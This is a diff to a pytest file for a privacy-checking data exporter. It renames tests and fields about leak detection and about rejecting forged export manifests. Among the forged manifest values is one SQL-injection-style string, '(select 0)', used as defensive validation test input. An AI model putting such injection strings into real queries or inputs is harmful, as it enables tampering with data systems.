-def test_a_word_that_tells_of_somebody_is_found_out(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+def test_a_word_that_identifies_a_person_is_detected(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
     monkeypatch.setattr(frequent_values, "IdentifierScanner", Blind)
     with pytest.raises(LeakError) as refused:
         ik.export(tagged(), tmp_path / "out.parquet")
-    assert (refused.value.column, refused.value.gate, refused.value.count) == ("custom_tag", "values", len(TAGS))
+    assert (refused.value.column, refused.value.check, refused.value.count) == ("custom_tag", "values", len(TAGS))
     assert left(tmp_path) == []
 
 
 @pytest.mark.parametrize("how", ["masked", "many addresses", "many spellings"])
-def test_a_tag_of_one_customer_does_not_leave_however_often_it_is_written(tmp_path: Path, how: str) -> None:
+def test_a_frequent_tag_of_one_customer_is_not_exported(tmp_path: Path, how: str) -> None:
     done = ik.export(alone_in(20, ONE[how]), tmp_path / "out.parquet")
     assert set(read(done.path)["custom_tag"]) == {"other"}
 
 
 FORGED: tuple[tuple[str, Any], ...] = (
     ("rows", "x"), ("rows", True), ("rows", -1), ("file", "other.csv"), ("created_at", "yesterday"),
-    ("gates", ["trust"]),
+    ("checks", ["trust"]),
     ("level", "anonymous"), ("columns", {}), ("columns", []), ("nulls", {"status": "x"}), ("sha256", 3), ("fewest", 3),
     ("spreadsheet_safe", "no"), ("columns.status.form", "anything"), ("columns.status.form", "text"),
     ("columns.status.action", "copy"), ("columns.status.how", "raw"), ("columns.status.values", [1]),
     ("columns.email.form", "text"), ("columns.email.form", "range"), ("columns.attempts.most", "1"),
     ("columns.attempts.least", "(select 0)"), ("columns.attempts.least", float("nan")), ("columns.attempts.more", 1),
-    ("columns.email.prefix", "a"), ("alike", [{"unique": 0}]), ("created_at", "2026-03-30"),
+    ("columns.email.prefix", "a"), ("uniqueness", [{"unique": 0}]), ("created_at", "2026-03-30"),
 )  # fmt: skip
 
 
 @pytest.fixture(scope="module")
 def proved(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, str]:
-    """An export, and its page: each test writes a page of its own."""
+    """An export and its manifest, which each test replaces."""
     done = ik.export(annotated().with_columns(attempts=1), tmp_path_factory.mktemp("export") / "out.csv")
     assert verify(done.path).rows == 200
     return done.path, done.manifest.read_text()
 
 
 @pytest.mark.parametrize(("field", "value"), FORGED)
-def test_a_manifest_that_no_export_writes_is_not_believed(proved: tuple[Path, str], field: str, value: Any) -> None:
+def test_an_invalid_manifest_is_rejected(proved: tuple[Path, str], field: str, value: Any) -> None:
     file, page = proved
     told = json.loads(page)
     *path, last = field.split(".")
